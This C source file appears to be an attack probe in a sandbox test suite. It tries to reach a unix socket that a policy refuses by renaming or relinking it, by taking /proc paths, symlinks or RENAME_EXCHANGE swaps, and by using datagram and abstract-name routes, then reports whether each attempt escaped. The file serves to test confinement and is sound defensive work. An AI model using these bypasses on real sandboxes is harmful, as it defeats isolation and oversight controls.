/* net_unix: reach a refused unix socket by another name.
 *
 *   net_unix MODE SOCKET WORK
 *
 * SOCKET is a listening unix socket outside the tree, named by a path (or "@name": abstract);
 * the policy refuses net-connect to it.  WORK is the attacker's directory.
 *
 * MODE: path        connect(SOCKET) as given (the rule at work)
 *       symlink     a symlink WORK/l -> SOCKET, connect(WORK/l)
 *       relative    chdir(SOCKET's directory), connect("sock")
 *       procfd      connect("/proc/self/fd/N/sock"), N a descriptor of SOCKET's directory
 *       proccwd     chdir(SOCKET's directory), connect("/proc/self/cwd/sock")
 *       hardlink    link(SOCKET, WORK/hard), connect(WORK/hard): the same socket inode
 *       rename      rename(SOCKET, WORK/moved), connect(WORK/moved)
 *       dirrename   rename(SOCKET's directory, WORK/movedir), connect(WORK/movedir/sock)
 *       exchange    renameat2(WORK/x, SOCKET, RENAME_EXCHANGE) with a file WORK/x: the socket
 *                   moves to WORK/x; connect(WORK/x)
 *       direxchange the same with a directory WORK/xd and SOCKET's directory;
 *                   connect(WORK/xd/sock)
 *       dgram       a datagram socket: sendto(SOCKET) (SOCKET is then a datagram receiver)
 *       abstract    connect("\0name") for SOCKET = "@name"
 * Class 7 (network: unix socket paths and abstract names).
 */
#include "attack.h"

#include <libgen.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

static int unix_to(int type, const char *path, int abstract, const char *payload) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    socklen_t len;
    if (abstract) {
        a.sun_path[0] = 0;
        strncpy(a.sun_path + 1, path, sizeof a.sun_path - 2);
        len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path);
    } else {
        strncpy(a.sun_path, path, sizeof a.sun_path - 1);
        len = sizeof a;
    }
    int s = socket(AF_UNIX, type, 0);
    if (type == SOCK_DGRAM)
        return sendto(s, payload, strlen(payload), 0, (struct sockaddr *)&a, len) < 0 ? -1 : 0;
    return connect(s, (struct sockaddr *)&a, len);
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("net_unix MODE SOCKET WORK");
    const char *mode = argv[1], *sock = argv[2], *work = argv[3];
    char dir[4096], tmp[4096], p[4096];
    snprintf(tmp, sizeof tmp, "%s", sock);
    snprintf(dir, sizeof dir, "%s", dirname(tmp));
    int rc;
    const char *how = mode;
    if (!strcmp(mode, "path")) {
        rc = unix_to(SOCK_STREAM, sock, 0, NULL);
    } else if (!strcmp(mode, "symlink")) {
        snprintf(p, sizeof p, "%s/l", work);
        symlink(sock, p);
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "relative")) {
        chdir(dir);
        rc = unix_to(SOCK_STREAM, "sock", 0, NULL);
    } else if (!strcmp(mode, "procfd")) {
        int d = open(dir, O_RDONLY | O_DIRECTORY);
        snprintf(p, sizeof p, "/proc/self/fd/%d/sock", d);
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "proccwd")) {
        chdir(dir);
        rc = unix_to(SOCK_STREAM, "/proc/self/cwd/sock", 0, NULL);
    } else if (!strcmp(mode, "hardlink")) {
        snprintf(p, sizeof p, "%s/hard", work);
        if (link(sock, p) < 0)
            blocked("link: %s", ename(errno));
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "rename")) {
        snprintf(p, sizeof p, "%s/moved", work);
        if (rename(sock, p) < 0)
            blocked("rename: %s", ename(errno));
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "dirrename")) {
        snprintf(p, sizeof p, "%s/movedir", work);
        if (rename(dir, p) < 0)
            blocked("rename of the directory: %s", ename(errno));
        snprintf(p, sizeof p, "%s/movedir/sock", work);
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "exchange") || !strcmp(mode, "direxchange")) {
        int whole_dir = !strcmp(mode, "direxchange");
        snprintf(p, sizeof p, "%s/%s", work, whole_dir ? "xd" : "x");
        int made = whole_dir ? mkdir(p, 0755) : close(open(p, O_CREAT | O_WRONLY, 0644));
        if (made < 0)
            blocked("make %s: %s", p, ename(errno));
        if (syscall(SYS_renameat2, AT_FDCWD, p, AT_FDCWD, whole_dir ? dir : sock,
                    RENAME_EXCHANGE) < 0) {
            if (errno == ENOSYS || errno == EINVAL)
                skipped("renameat2(RENAME_EXCHANGE): %s", ename(errno));
            blocked("renameat2(RENAME_EXCHANGE): %s", ename(errno));
        }
        if (whole_dir)
            snprintf(p, sizeof p, "%s/xd/sock", work);
        rc = unix_to(SOCK_STREAM, p, 0, NULL);
    } else if (!strcmp(mode, "dgram")) {
        rc = unix_to(SOCK_DGRAM, sock, 0, "exfiltrated");
    } else if (!strcmp(mode, "abstract")) {
        if (sock[0] != '@')
            usage("abstract needs SOCKET = @name");
        rc = unix_to(SOCK_STREAM, sock + 1, 1, NULL);
    } else {
        usage("MODE: path symlink relative procfd proccwd hardlink rename dirrename exchange "
              "direxchange dgram abstract");
    }
    if (rc < 0)
        blocked("%s: %s", how, ename(errno));
    escaped("%s reached the refused socket", how);
}
